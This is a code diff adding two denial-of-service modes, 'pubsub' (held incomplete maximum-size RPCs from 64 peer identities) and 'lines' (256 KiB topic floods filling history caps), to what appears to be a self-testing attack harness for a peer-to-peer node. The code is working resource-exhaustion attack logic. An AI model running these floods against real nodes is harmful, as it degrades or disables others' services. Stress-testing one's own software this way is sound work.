@@ -8,6 +8,7 @@ import NIOCore
 import NIOPosix
 import Noise
 import Ping
+import PubSub
 import Relay
 import Synchronization
 import Transport
@@ -35,10 +36,14 @@ let attackUsage = """
       dcutr        rows 5, 6: DCUtR CONNECT naming a third party on a direct connection, and STOP
                    from a peer that is no relay; counts the dials the target made
       metrics      row 13: 1100 idle connections to --metrics and 16 pipelining requests, never reading
+      pubsub       pubsub RPCs held incomplete: 64 peer ids from 4 addresses each announce 1 MiB + 64 KiB
+                   and send half, again whenever the target drops one
+      lines        row 4: 16 peer ids from 2 addresses publish lines of 256 KiB on TOPIC, each every 2 s
+                   (the target's history fills to its caps)
     """
 
 enum AttackKind: String, CaseIterable {
-    case handshakes, streams, connections, providers, dcutr, metrics
+    case handshakes, streams, connections, providers, dcutr, metrics, pubsub, lines
 }
 
 struct AttackOptions {
@@ -122,6 +127,8 @@ func runAttack(_ arguments: [String]) async throws {
         case .providers: summary = try await attack.fillProviderStore()
         case .dcutr: summary = try await attack.makeTheTargetDial()
         case .metrics: summary = try await attack.floodMetrics()
+        case .pubsub: summary = try await attack.holdIncompleteRPCs()
+        case .lines: summary = try await attack.publishLargeLines()
         }
     } catch {
         print("attack \(options.kind.rawValue) failed: \(error)")
@@ -528,5 +535,84 @@ struct Attack {
         for channel in idleChannels + floodChannels { try? await channel.close() }
         return "\(requests.value) requests pipelined on \(pipelining) connections, up to \(idle) idle connections, "
             + "\(closed) connections closed by the target, \(failures) connects failed"
+    }
+
+    // MARK: Pubsub: RPCs held incomplete
+
+    /// 64 peer ids from 4 addresses each open a pubsub stream and send half of
+    /// an RPC announcing the largest size taken, then nothing; when the target
+    /// resets one (its 30 s, or the shared 64 MiB), the peer starts another.
+    func holdIncompleteRPCs() async throws -> String {
+        let (address, peer, _, _) = try target()
+        let identities = 64
+        let announced = PubSubConfiguration().maxRPCSize
+        let started = AttackCounter()
+        let dropped = AttackCounter()
+        let end = self.end
+        await withTaskGroup(of: Void.self) { tasks in
+            for index in 0..<identities {
+                let source = options.source(index % 4)
+                tasks.addTask {
+                    guard let host = try? await attacker(from: source) else { return }
+                    while ContinuousClock.now < end {
+                        guard (try? await host.connect(address)) != nil,
+                            let stream = try? await host.newStream(to: peer, protocols: [PubSubProtocol.meshsub11])
+                        else {
+                            try? await Task.sleep(for: .seconds(1))
+                            continue
+                        }
+                        do {
+                            try await stream.write(HostileFrames.incompleteRPC(announcing: announced, sending: announced / 2))
+                            started.add()
+                            // Held until the target ends it (a read ends or fails) or the attack does.
+                            _ = try await readMessage(stream, within: end - ContinuousClock.now)
+                            if ContinuousClock.now < end { dropped.add() }
+                        } catch {
+                            dropped.add()
+                        }
+                        stream.reset()
+                    }
+                    await host.close()
+                }
+            }
+        }
+        return "\(identities) peer ids from 4 addresses started \(started.value) RPCs of \(announced) bytes, sending half; "
+            + "\(dropped.value) dropped by the target"
+    }
+
+    // MARK: Row 4: large lines into history
+
+    /// 16 peer ids from 2 addresses each publish on the topic a line of
+    /// 256 KiB every 2 s: the chats show them, and the target's history keeps
+    /// them up to its caps (8 MiB per author, 64 MiB in all).
+    func publishLargeLines() async throws -> String {
+        let (address, _, _, _) = try target()
+        let identities = 16
+        let line = [UInt8](repeating: UInt8(ascii: "x"), count: 256 * 1024)
+        let published = AttackCounter()
+        let reachedNobody = AttackCounter()
+        let topic = options.topic
+        let end = self.end
+        await withTaskGroup(of: Void.self) { tasks in
+            for index in 0..<identities {
+                let source = options.source(index % 2)
+                tasks.addTask {
+                    guard let host = try? await attacker(from: source), let pubsub = try? PubSubService(host: host) else { return }
+                    pubsub.start()
+                    // Not subscribed: published through fanout to the peers on the topic, nothing received.
+                    _ = try? await host.connect(address)
+                    try? await Task.sleep(for: .seconds(2))  // the subscription exchange
+                    while ContinuousClock.now < end {
+                        let sentTo = (try? await pubsub.publish(topic, data: line)) ?? 0
+                        if sentTo > 0 { published.add() } else { reachedNobody.add() }
+                        try? await Task.sleep(for: .seconds(2))
+                    }
+                    await pubsub.stop()
+                    await host.close()
+                }
+            }
+        }
+        return "\(identities) peer ids from 2 addresses published \(published.value) lines of 256 KiB on \(topic) "
+            + "(\(reachedNobody.value) reached nobody)"
     }
 }
